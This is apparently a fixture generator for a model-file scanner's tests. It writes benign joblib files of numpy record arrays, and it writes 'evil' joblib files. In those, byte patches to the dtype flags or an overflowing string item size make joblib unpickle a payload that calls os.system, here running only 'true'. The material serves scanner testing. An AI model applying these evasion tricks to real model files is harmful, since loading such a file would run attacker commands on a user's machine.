#!/usr/bin/python3
"""joblib arrays whose dtype state decides how joblib reads the bytes after the wrapper.

benign_*.joblib: joblib.dump of record (structured) arrays, nested, with subarrays, with object
fields, Fortran order, strings; stguard must read them (never invalid or unsafe).
evil_flags_*.joblib: a joblib.dump of a record array whose pickled dtype state has its flags
(state[7]) set to NPY_ITEM_HASOBJECT: numpy then says dtype.hasobject, and joblib's read_array
pickle.load-s the array bytes, here a pickle calling os.system.
evil_wrap_*.joblib: a byte-string array whose dtype reduce string is S<count> with no dtype
state, count past numpy's C int: numpy's item size wraps (S4294967297 reads 1 byte), so joblib
reads one byte of array data and unpickles what follows, a pickle calling os.system; a reader
taking the count as written would skip it. Only ever loaded under tests/loaders/reach.py.

Usage: gen_joblib_dtype.py DIR
"""
import os
import struct
import sys

import joblib
import numpy as np

PAYLOAD = b"cos\nsystem\n(S'true'\ntR."


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    benign = {
        "rec": np.zeros(3, dtype=[("a", "<f8"), ("b", "<i4")]),
        "rec_nested": np.zeros(2, dtype=[("a", [("b", "<f4"), ("c", "S3")]), ("d", "<u2")]),
        "rec_subarray": np.zeros(2, dtype=[("a", "<f4", (3,)), ("b", "<i8")]),
        "rec_object": np.array([(1.0, "x"), (2.0, None)], dtype=[("a", "<f8"), ("b", "O")]),
        "rec_fortran": np.asfortranarray(np.zeros((2, 3), dtype=[("a", "<f8")])),
        "subarray_top": np.zeros(2, dtype=("<f4", (2,))),
        "strings": np.array(["abc", "d"]),
        "bytes": np.array([b"ab", b"c"]),
        "longdouble": {"c": np.arange(3, dtype="G"), "f": np.arange(2, dtype="g")},  # c32, f16
        "dict_of_recs": {"x": np.zeros(2, dtype=[("a", "<f8")]), "y": np.arange(4)},
    }
    for name, obj in benign.items():
        joblib.dump(obj, os.path.join(out, "benign_%s.joblib" % name))
    # evil: patch the record dtype's flags (K\x10 after elsize 8, alignment 1) to 1
    for itemsize, fields in ((8, [("a", "<f8")]), (16, [("a", "<f8"), ("b", "<i8")])):
        path = os.path.join(out, "evil_flags_%d.joblib" % itemsize)
        joblib.dump(np.zeros(2, dtype=fields), path)
        data = open(path, "rb").read()
        state_tail = b"K" + bytes([itemsize]) + b"K\x01K\x10t"
        assert data.count(state_tail) == 1, data
        data = data.replace(state_tail, b"K" + bytes([itemsize]) + b"K\x01K\x01t")
        # the array bytes (padding-length byte, padding, data) become a pickle
        at = data.index(b"numpy_array_alignment_bytes")
        build = data.index(b"ub", at) + 2
        data = data[:build] + PAYLOAD + b"."
        with open(path, "wb") as f:
            f.write(data)
    # evil: a reduce string whose item size wraps in numpy's C int
    for count in (4294967297, 8589934593):
        path = os.path.join(out, "evil_wrap_%d.joblib" % count)
        joblib.dump(np.array([b"N"], dtype="S1"), path, protocol=2)
        data = open(path, "rb").read()
        typestr = str(count).encode()
        parts = [(b"X\x02\x00\x00\x00S1", b"X" + struct.pack("<I", len(typestr) + 1) + b"S" +
                  typestr),
                 (b"(K\x03X\x01\x00\x00\x00|q\x0eNNNK\x01K\x01K\x00tq\x0fb", b""),
                 (b"X\x1b\x00\x00\x00numpy_array_alignment_bytesq\x11K\x10", b"")]
        for old, new in parts:
            assert data.count(old) == 1, (old, data)
            data = data.replace(old, new)
        # joblib wrote padding for the alignment dropped above: the array's one byte ("N",
        # also a harmless opcode) follows the BUILD directly, then the payload
        build = data.index(b"\x88ub") + 3
        assert data[build:] == b"\x0b" + b"\xff" * 11 + b"N.", data
        data = data[:build] + b"N" + PAYLOAD + b"."
        with open(path, "wb") as f:
            f.write(data)
    return 0


if __name__ == "__main__":
    sys.exit(main())
